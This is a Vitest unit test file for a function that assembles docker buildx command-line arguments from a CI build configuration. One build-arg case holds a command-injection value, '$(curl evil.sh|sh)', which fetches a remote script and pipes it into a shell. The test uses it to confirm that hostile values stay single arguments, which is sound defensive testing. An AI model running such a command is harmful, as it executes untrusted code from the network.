import { describe, expect, it } from 'vitest';
import { buildxArgs, type BuildxInput } from '../../../src/domain/plan/buildx-args.js';
import { METADATA_FILE_PLACEHOLDER } from '../../../src/domain/types.js';

const META = METADATA_FILE_PLACEHOLDER;

// The smallest realistic input: one platform, one tag, no labels, no cache, no push.
const base: BuildxInput = {
  image: 'ghcr.io/acme/api',
  service: 'api',
  tags: ['main-abc1234'],
  labels: [],
  platforms: ['linux/amd64'],
  buildArgs: [],
  target: '',
  file: 'Dockerfile',
  context: '.',
  provenance: '',
  sbom: '',
  cache: 'none',
  push: false,
  pushByDigest: false,
};

const head = ['buildx', 'build', '--progress', 'plain'];
const noPushTail = ['--metadata-file', META, '--output', 'type=cacheonly', '.'];

interface Case {
  name: string;
  input: Partial<BuildxInput>;
  expected: string[];
}

const cases: Case[] = [
  {
    name: 'minimal build without push',
    input: {},
    expected: [...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234', ...noPushTail],
  },
  {
    name: 'two platforms as one comma list',
    input: { platforms: ['linux/amd64', 'linux/arm64'] },
    expected: [...head, '--platform', 'linux/amd64,linux/arm64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234', ...noPushTail],
  },
  {
    name: 'no platforms: the builder default',
    input: { platforms: [] },
    expected: [...head, '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234', ...noPushTail],
  },
  {
    name: 'every tag, in order',
    input: { tags: ['1.2.3', '1.2', '1'] },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile',
      '--tag', 'ghcr.io/acme/api:1.2.3', '--tag', 'ghcr.io/acme/api:1.2', '--tag', 'ghcr.io/acme/api:1',
      ...noPushTail,
    ],
  },
  {
    name: 'latest is never pushed by the build',
    input: { tags: ['main-abc1234', 'latest'] },
    expected: [...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234', ...noPushTail],
  },
  {
    name: 'labels, values with spaces and = kept whole',
    input: {
      labels: [
        { key: 'org.opencontainers.image.title', value: 'api service' },
        { key: 'org.opencontainers.image.source', value: 'https://github.com/acme/app?x=1' },
      ],
    },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile',
      '--label', 'org.opencontainers.image.title=api service',
      '--label', 'org.opencontainers.image.source=https://github.com/acme/app?x=1',
      '--tag', 'ghcr.io/acme/api:main-abc1234',
      ...noPushTail,
    ],
  },
  {
    name: 'build args, hostile values stay single arguments',
    input: { buildArgs: [{ key: 'VERSION', value: '1.0' }, { key: 'CMD', value: '$(curl evil.sh|sh); echo "x"' }] },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile',
      '--build-arg', 'VERSION=1.0', '--build-arg', 'CMD=$(curl evil.sh|sh); echo "x"',
      '--tag', 'ghcr.io/acme/api:main-abc1234',
      ...noPushTail,
    ],
  },
  {
    name: 'target',
    input: { target: 'runtime' },
    expected: [...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--target', 'runtime', '--tag', 'ghcr.io/acme/api:main-abc1234', ...noPushTail],
  },
  {
    name: 'file and context in subdirectories',
    input: { file: 'services/api/Dockerfile.prod', context: 'services/api' },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'services/api/Dockerfile.prod', '--tag', 'ghcr.io/acme/api:main-abc1234',
      '--metadata-file', META, '--output', 'type=cacheonly', 'services/api',
    ],
  },
  {
    name: 'paths starting with a dash cannot read as options',
    input: { file: '-/Dockerfile', context: '-' },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', './-/Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234',
      '--metadata-file', META, '--output', 'type=cacheonly', './-',
    ],
  },
  {
    name: 'provenance mode=min',
    input: { provenance: 'mode=min' },
    expected: [...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234', '--provenance=mode=min', ...noPushTail],
  },
  {
    name: 'provenance false is one token',
    input: { provenance: 'false' },
    expected: [...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234', '--provenance=false', ...noPushTail],
  },
  {
    name: 'sbom true with provenance max',
    input: { provenance: 'mode=max', sbom: 'true' },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234',
      '--provenance=mode=max', '--sbom=true', ...noPushTail,
    ],
  },
  {
    name: 'sbom false',
    input: { sbom: 'false' },
    expected: [...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234', '--sbom=false', ...noPushTail],
  },
  {
    name: 'gha cache scoped to the service and platform, export errors ignored',
    input: { cache: 'gha', push: true },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234',
      '--cache-from', 'type=gha,scope=api-linux-amd64',
      '--cache-to', 'type=gha,scope=api-linux-amd64,mode=max,ignore-error=true',
      '--metadata-file', META, '--push', '.',
    ],
  },
  {
    name: 'gha cache without push still exports (the runner provides the cache token)',
    input: { cache: 'gha' },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234',
      '--cache-from', 'type=gha,scope=api-linux-amd64',
      '--cache-to', 'type=gha,scope=api-linux-amd64,mode=max,ignore-error=true',
      ...noPushTail,
    ],
  },
  {
    name: 'gha cache of an arm64 leg: a scope of its own, beside the amd64 leg\'s',
    input: { cache: 'gha', push: true, pushByDigest: true, platforms: ['linux/arm64'] },
    expected: [
      ...head, '--platform', 'linux/arm64', '--file', 'Dockerfile',
      '--cache-from', 'type=gha,scope=api-linux-arm64',
      '--cache-to', 'type=gha,scope=api-linux-arm64,mode=max,ignore-error=true',
      '--metadata-file', META, '--output', 'type=image,name=ghcr.io/acme/api,push-by-digest=true,name-canonical=true,push=true', '.',
    ],
  },
  {
    name: 'gha cache of a two-platform build: one scope for the pair, with the variant',
    input: { cache: 'gha', platforms: ['linux/amd64', 'linux/arm/v7'] },
    expected: [
      ...head, '--platform', 'linux/amd64,linux/arm/v7', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234',
      '--cache-from', 'type=gha,scope=api-linux-amd64-linux-arm-v7',
      '--cache-to', 'type=gha,scope=api-linux-amd64-linux-arm-v7,mode=max,ignore-error=true',
      ...noPushTail,
    ],
  },
  {
    name: 'push by digest: no tag, untagged image output under the canonical name',
    input: { push: true, pushByDigest: true, tags: ['main-abc1234', 'stable'] },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile',
      '--metadata-file', META, '--output', 'type=image,name=ghcr.io/acme/api,push-by-digest=true,name-canonical=true,push=true', '.',
    ],
  },
  {
    name: 'push by digest without push (a fork): nothing leaves, as any build without push',
    input: { pushByDigest: true },
    expected: [...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', ...noPushTail],
  },
  {
    name: 'registry cache at <image>:buildcache',
    input: { cache: 'registry', push: true },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234',
      '--cache-from', 'type=registry,ref=ghcr.io/acme/api:buildcache',
      '--cache-to', 'type=registry,ref=ghcr.io/acme/api:buildcache,mode=max,ignore-error=true',
      '--metadata-file', META, '--push', '.',
    ],
  },
  {
    name: 'registry cache without push is read only (no login, nothing can be written)',
    input: { cache: 'registry' },
    expected: [
      ...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234',
      '--cache-from', 'type=registry,ref=ghcr.io/acme/api:buildcache',
      ...noPushTail,
    ],
  },
  {
    name: 'push',
    input: { push: true },
    expected: [...head, '--platform', 'linux/amd64', '--file', 'Dockerfile', '--tag', 'ghcr.io/acme/api:main-abc1234', '--metadata-file', META, '--push', '.'],
  },
  {
    name: 'everything at once, in the documented order',
    input: {
      image: '127.0.0.1:5000/e2e/svc',
      service: 'svc',
      tags: ['pr-7', 'feature-x-0123456'],
      labels: [{ key: 'org.opencontainers.image.revision', value: '0123456789abcdef0123456789abcdef01234567' }],
      platforms: ['linux/amd64', 'linux/arm64', 'linux/arm/v7'],
      buildArgs: [{ key: 'A', value: '' }],
      target: 'prod',
      file: 'svc/Dockerfile',
      context: 'svc',
      provenance: 'false',
      sbom: 'false',
      cache: 'registry',
      push: true,
    },
    expected: [
      'buildx', 'build', '--progress', 'plain',
      '--platform', 'linux/amd64,linux/arm64,linux/arm/v7',
      '--file', 'svc/Dockerfile',
      '--target', 'prod',
      '--build-arg', 'A=',
      '--label', 'org.opencontainers.image.revision=0123456789abcdef0123456789abcdef01234567',
      '--tag', '127.0.0.1:5000/e2e/svc:pr-7',
      '--tag', '127.0.0.1:5000/e2e/svc:feature-x-0123456',
      '--provenance=false',
      '--sbom=false',
      '--cache-from', 'type=registry,ref=127.0.0.1:5000/e2e/svc:buildcache',
      '--cache-to', 'type=registry,ref=127.0.0.1:5000/e2e/svc:buildcache,mode=max,ignore-error=true',
      '--metadata-file', META,
      '--push',
      'svc',
    ],
  },
];

describe('buildxArgs', () => {
  it.each(cases)('$name', ({ input, expected }) => {
    expect(buildxArgs({ ...base, ...input })).toEqual(expected);
  });

  it('the metadata file is the placeholder the docker adapter replaces', () => {
    expect(METADATA_FILE_PLACEHOLDER).toBe('{{metadata-file}}');
    const args = buildxArgs(base);
    expect(args[args.indexOf('--metadata-file') + 1]).toBe('{{metadata-file}}');
  });

  it('the context is always the last argument', () => {
    const args = buildxArgs({ ...base, context: 'ctx', cache: 'gha', push: true, sbom: 'true' });
    expect(args.at(-1)).toBe('ctx');
    expect(args.filter((a) => a === 'ctx')).toHaveLength(1);
  });
});
